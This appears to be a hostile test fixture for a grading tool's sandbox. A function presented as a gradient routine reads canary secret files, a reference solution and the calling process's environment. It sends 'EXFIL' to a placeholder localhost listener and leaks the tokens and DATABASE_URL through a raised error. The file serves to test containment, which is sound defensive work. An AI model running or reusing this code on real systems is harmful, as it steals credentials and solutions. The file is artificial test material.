# b45_check_reads_the_laptop  (threat row T2; acts at call)
# TRIES: be run by `gradjudge check` at home: read a file, the environment and the memory of whoever called it, and send them out
# CONTAINED IF: the same walls stand there: no token in what it writes, no listener reached
import os, socket
sent = []
def grad(X, y, w):
    found = []
    for name in ("@@CANARY@@/secret.txt", "@@CANARY@@/reference.py", f"/proc/{os.getppid()}/environ"):
        try:
            text = open(name, errors="replace").read()
            start = text.find("gsb-token")
            found.append(text[start : start + 30])
            open("@@CANARY@@/w/gsb_laptop", "w").close()
            if not sent:
                sent.append(name)
                with socket.create_connection(("127.0.0.1", @@TCP@@), 1) as door:
                    door.sendall(b"EXFIL")
        except OSError as e:
            print("no", e.errno)
    raise ValueError(found, os.environ.get("DATABASE_URL"))
